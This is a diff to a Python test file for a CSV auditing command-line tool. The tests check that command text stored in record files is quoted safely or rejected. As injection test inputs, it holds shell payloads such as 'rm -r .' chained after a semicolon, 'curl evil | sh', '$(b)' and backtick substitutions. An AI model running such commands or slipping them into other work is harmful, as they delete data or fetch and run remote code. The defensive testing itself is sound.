@@ -13,7 +13,14 @@ import pytest
 from typer.testing import CliRunner, Result
 
 import csvor.cli.commands._audit
-from csvor.cli._follow_up import audit_command, next_audit, read_command
+from csvor.cli._follow_up import (
+    audit_command,
+    next_audit,
+    read_command,
+    read_record,
+    record_of,
+    write_record,
+)
 from csvor.cli.commands._app import app
 
 CLASSES = ["poor", "fair", "so so", "good"]
@@ -160,7 +167,8 @@ def test_a_command_is_made_of_its_options(
 @pytest.mark.parametrize(
     "text",
     ["", "-9", "rm -rf t.csv --target y", "csvor audit 't.csv --target y", "csvor audit t.csv",
-     "csvor audit t.csv --target \x1b[31m"],
+     "csvor audit t.csv --target \x1b[31m", "csvor audit t.csv --target y --suspects=data.csv",
+     "csvor audit t.csv --target y --json"],
 )  # fmt: skip
 def test_other_texts_are_no_command(text: str) -> None:
     assert read_command(text) == ()
@@ -171,6 +179,26 @@ def test_a_command_from_a_file_runs_nothing_else() -> None:
     assert next_audit(words, "x y.csv", "d.csv") == (
         "csvor audit 'x y.csv' --target 'y;' rm '$(b)' '`c`' '|' d --reviewed d.csv"
     )
+
+
+def test_a_record_from_anybody_is_a_command_of_ours_or_none(tmp_path: Path) -> None:
+    path = str(tmp_path / "a.csv")
+    Path(path).write_text("x,y")
+    for text in ("csvor audit 'a b.csv' --target y", "csvor audit 'a b' --target y, as before"):
+        write_record(path, "y", 3, text)
+        assert read_record(path, "y") == {"changed": 3, "next": text}
+        assert read_record(path, "z") is None
+    write_record(path, "y", 3, "csvor audit a.csv --target y; rm -r .")
+    assert read_record(path, "y") == {
+        "changed": 3,
+        "next": "csvor audit a.csv --target 'y;' rm -r .",
+    }
+    write_record(path, "y", 3, "curl evil | sh")
+    assert read_record(path, "y") == {"changed": 3, "next": None}
+    record = json.loads(record_of(path).read_text())
+    for wrong in ({**record, "changed": "many"}, {"written_by": "csvor apply"}, [record]):
+        record_of(path).write_text(json.dumps(wrong))
+        assert read_record(path, "y") is None
 
 
 @pytest.mark.usefixtures("_there")
